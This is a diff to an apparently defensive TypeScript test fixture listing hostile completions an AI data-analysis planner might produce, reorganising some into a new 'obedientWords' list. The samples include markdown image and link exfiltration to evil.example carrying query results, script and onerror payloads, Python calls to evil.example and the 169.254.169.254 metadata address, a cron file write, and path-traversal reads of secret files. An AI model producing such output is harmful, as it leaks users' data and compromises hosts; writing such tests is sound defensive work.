@@ -132,17 +132,11 @@ export const obedient: readonly [what: string, completion: string][] = [
   ['a look-alike table', sql('SELECT * FROM thіngs')],
   ['an endless recursion', sql('WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r')],
   ['a series without end', sql('SELECT * FROM range(1000000000000)')],
-  ['a picture that tells an address', planOf({ answer: '![x](https://evil.example/?n={{table.result[0].count}})' })],
-  ['a link in the answer', planOf({ answer: '[more](//evil.example) {{table.result}}' })],
-  ['a bare address', planOf({ answer: 'Go to https://evil.example. {{table.result}}' })],
   ['an address by name', planOf({ understood: 'Things, see www.evil.example.' })],
-  ['a script', planOf({ answer: '<script>alert()</script>{{table.result}}' })],
   ['a picture of HTML', planOf({ assumptions: '<img src=x onerror=alert()>' })],
   ['a reference link', planOf({ title: '[things][evil]' })],
   ['an address in a prompt to ask', planOf({ kind: 'clarify', queries: '', answer: 'Counts.', ask: 'Open https://evil.example' })],
   ['a link in what can be done', planOf({ kind: 'clarify', queries: '', answer: '[log in](https://evil.example)', ask: 'How many?' })],
-  ['an invented number', planOf({ answer: 'There are 1000000 things. {{table.result}}' })],
-  ['a table that is not the plan’s', planOf({ answer: '{{table.secrets}}' })],
   ['a program with a network', program('import urllib.request\nurllib.request.urlopen("https://evil.example")')],
   ['a program with a socket', program('import socket\nsocket.create_connection(("169.254.169.254", 80))')],
   ['a program with requests', program('import requests\nrequests.post("https://evil.example")')],
@@ -154,9 +148,19 @@ export const obedient: readonly [what: string, completion: string][] = [
   ['a program that writes to the host', program('open("/etc/cron.d/x", "w").write("x")')],
   ['a program that loads another dataset', program('import kaiseki\nkaiseki.load("secrets")')],
   ['a program that takes another run’s file', program('import kaiseki\nkaiseki.artifact("../../r2/secret.csv")')],
-  ['a query as a path', planOf({ queries: sqlFence('../../x', 'SELECT count(*) AS count FROM things') })],
   ['a query named as a prototype', planOf({ queries: `${count}\n${sqlFence('__proto__', 'SELECT 1 AS a')}` })],
   ['an unknown kind', planOf({ kind: 'shell' })],
+]; // prettier-ignore
+
+/** Nothing of these is wrong but the words of the answer. */
+export const obedientWords: readonly [what: string, completion: string][] = [
+  ['a query as a path', planOf({ queries: sqlFence('../../x', 'SELECT count(*) AS count FROM things') })],
+  ['a picture that tells an address', planOf({ answer: '![x](https://evil.example/?n={{table.result[0].count}})' })],
+  ['a link in the answer', planOf({ answer: '[more](//evil.example) {{table.result}}' })],
+  ['a bare address', planOf({ answer: 'Go to https://evil.example. {{table.result}}' })],
+  ['a script', planOf({ answer: '<script>alert()</script>{{table.result}}' })],
+  ['an invented number', planOf({ answer: 'There are 1000000 things. {{table.result}}' })],
+  ['a table that is not the plan’s', planOf({ answer: '{{table.secrets}}' })],
 ]; // prettier-ignore
 
 /** What it would ask beforehand. */
